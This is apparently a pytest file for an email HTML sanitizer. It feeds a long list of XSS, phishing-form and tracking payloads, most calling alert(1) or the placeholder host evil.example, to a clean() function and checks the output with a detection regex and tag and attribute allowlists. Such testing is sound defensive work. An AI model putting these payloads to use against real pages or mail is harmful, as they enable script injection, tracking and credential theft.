"""Clean HTML: what is passed on runs nothing, loads nothing and covers nothing."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from maild.message.html import DEPTH, clean, is_tame

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/p) }</style>",
    '<p style="background-image:url(https://evil.example/p)">x</p>',
    '<p style="background: url(&quot;https://evil.example/p&quot;)">x</p>',
    '<p style="color: expression(alert(1))">x</p>',
    '<p style="width: 1px; b\\61 ckground: u\\72l(https://evil.example/p)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<table background="https://evil.example/p"><tr><td background="https://evil.example/p">x</td></tr></table>',
    '<img src="https://evil.example/p">',
    '<img srcset="https://evil.example/p 2x" src="//evil.example/p">',
    '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
    '<audio src="https://evil.example/a"></audio>',
    '<a href="https://x.example" ping="https://evil.example" onclick=alert(1)>x</a>',
    '<body background="https://evil.example/p" onload=alert(1)>x</body>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<IMG SRC=jAvAsCrIpT:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<img src="jav&#x09;ascript:alert(1);">',
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script src=https://evil.example/x.js?<b>",
    '<input type="image" src="javascript:alert(1);">',
    '<img dynsrc="javascript:alert(1)" lowsrc="https://evil.example/p">',
    "<style>li {list-style-image: url('javascript:alert(1)');}</style><ul><li>x</ul>",
    '<p style="list-style: url(https://evil.example/p)">x</p>',
    '<p style="content: url(https://evil.example/p)">x</p>',
    '<p style="cursor:url(https://evil.example/p),auto">x</p>',
    '<p style="background:image-set(\'https://evil.example/p\' 1x)">x</p>',
    '<p style="margin-top:-500px;margin-left:-100%">x</p>',
    '<p style="color:red;/*</p><script>alert(1)</script>*/">x</p>',
    "<bgsound src=javascript:alert(1)>",
    '<br size="&{alert(1)}">',
    '<link rel="prefetch" href="https://evil.example/x"><link rel=dns-prefetch href=//evil.example>',
    '<table background="javascript:alert(1)">',
    '<div style="width: expression(alert(1));">x</div>',
    "<!--[if gte IE 4]><script>alert(1);</script><![endif]-->",
    '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml">',
    '<xml id="x"><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml>',
    '<html><body><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML">x',
    '<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">y</a><a href="//evil.example">z</a>',
    '<form id=a></form><button form=a formaction="javascript:alert(1)">x</button><keygen autofocus onfocus=alert(1)>',
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>y</marquee>",
    '<picture><source srcset="https://evil.example/p"><img src="https://evil.example/q"></picture>',
    '<img src="cid:x" srcset="https://evil.example/p 2x" onerror=alert(1)>',
    "<select><template><script>alert(1)</script></template></select>",
    "<frameset><frame src=https://evil.example></frameset>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip
HARMFUL = re.compile(
    r"<\s*(script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|video|audio|source|template)\b"
    r"|<[^>]*\s(on\w+|srcset|ping|background|poster|action|formaction)\s*="
    r"|(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript|//)"
    r"|style=\"[^\"]*(url|expression|@import|position|background-image)"
    r"|<img[^>]*src=(?!\"cid:)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_runs_or_loads_is_gone(attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>")

    assert not HARMFUL.search(cleaned)
    assert "before" in cleaned


TAGS = frozenset(
    [
        "a",
        "abbr",
        "acronym",
        "address",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "big",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "dfn",
        "dir",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "font",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "label",
        "li",
        "main",
        "mark",
        "menu",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
        "html",
        "head",
        "body",
    ]
)
ATTRIBUTES = frozenset(
    [
        "dir",
        "lang",
        "style",
        "align",
        "valign",
        "title",
        "href",
        "src",
        "alt",
        "width",
        "height",
        "border",
        "type",
        "color",
        "face",
        "size",
        "start",
        "value",
        "cellpadding",
        "cellspacing",
        "bgcolor",
        "summary",
        "colspan",
        "rowspan",
        "nowrap",
        "scope",
        "span",
        "noshade",
        "datetime",
        "rel",
    ]
)


def check_as_a_browser(html: str) -> None:
    """Assert that a browser finds nothing in `html` that runs or loads."""
    tree = LexborHTMLParser(html)
    found = list(tree.root.traverse(include_text=False)) if tree.root else []
    assert {node.tag for node in found} <= TAGS
    assert {name for node in found for name in node.attributes} <= ATTRIBUTES
    links = [node.attributes.get("href") or "" for node in found if "href" in node.attributes]
    assert all(link.startswith(("https:", "http:", "mailto:", "tel:", "cid:")) for link in links)
    assert all((node.attributes["src"] or "").startswith("cid:") for node in found if "src" in node.attributes)
    styles = " ".join(node.attributes.get("style") or "" for node in found)
    assert not re.search(r"url|expression|import|position|background-image|:\s*-\d", styles)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_browser_finds_only_what_is_allowed(attack: str) -> None:
    check_as_a_browser(clean(f"<p>before</p>{attack}<p>after</p>"))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<table>", "<td>", "<b>", "x", "'", '"', "-->", "<!--"]), max_size=8
    )
)
@settings(max_examples=150, deadline=None)
def test_attacks_that_are_combined_are_gone_too(pieces: list[str]) -> None:
    check_as_a_browser(clean("".join(pieces)))


@given(st.text(alphabet="<>/=\"' abdivscriptmgonerl:;()-!#&", max_size=200))
@settings(max_examples=200, deadline=None)
def test_cleaning_twice_changes_nothing_more(html: str) -> None:
    once = clean(html)

    assert clean(once) == once


def test_images_of_the_mail_itself_are_kept() -> None:
    assert 'src="cid:logo@x"' in clean('<img src="cid:logo@x" alt="Logo">')


def test_images_from_the_web_are_kept_where_the_department_allows() -> None:
    html = '<img src="https://x.example/a.png" alt="A">'

    assert "https://x.example/a.png" not in clean(html)
    assert 'src="https://x.example/a.png"' in clean(html, remote_images=True)


def test_links_quotes_tables_and_colours_are_kept() -> None:
    html = '<blockquote type="cite"><p style="color:red">x <a href="https://x.example">y</a></p></blockquote><table><tbody><tr><td>z</td></tr></tbody></table>'

    cleaned = clean(html)

    assert '<blockquote type="cite">' in cleaned
    assert "color:red" in cleaned.replace(" ", "")
    assert 'href="https://x.example"' in cleaned
    assert "<td>z</td>" in cleaned


def test_hidden_text_stays_hidden() -> None:
    assert "display:none" in clean('<div style="display:none">preview</div>').replace(" ", "")


def test_html_that_would_hurt_a_tree_builder_becomes_plain_text() -> None:
    html = "<div>" * (DEPTH + 1) + "deep & <b>bold</b>"

    assert not is_tame(html)
    assert "deep &amp;\nbold</div>" in clean(html)


def test_formatting_that_is_never_closed_is_not_multiplied() -> None:
    html = "".join(f"<p><font size={number}>x" for number in range(5_000))

    assert not is_tame(html)


def test_an_ordinary_newsletter_is_tame() -> None:
    html = ("<table><tr><td>" * 25 + "x" + "</td></tr></table>" * 25) * 20

    assert is_tame(html)


def test_nothing_stays_nothing() -> None:
    assert clean(" \n") == ""


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ('<p class="MsoNormal">One</p>', '<p style="margin:0">One</p>'),
        ("<p class=MsoNormal>One</p>", '<p style="margin:0">One</p>'),
        ("<p class=MsoPlainText align=left>One</p>", '<p align="left" style="margin:0">One</p>'),
        (
            "<p class=MsoNormal style='margin-bottom:12.0pt'>One</p>",
            '<p style="margin:0;margin-bottom:12.0pt">One</p>',
        ),
        ("<p class=MsoListParagraph>One</p>", "<p>One</p>"),
        ('<p class="MsoNormalTable">One</p>', "<p>One</p>"),
        ("<p>MsoNormal</p>", "<p>MsoNormal</p>"),
    ],
)
def test_lines_that_outlook_shows_close_together_stay_so_without_its_style_sheet(written: str, shown: str) -> None:
    assert clean(written) == shown
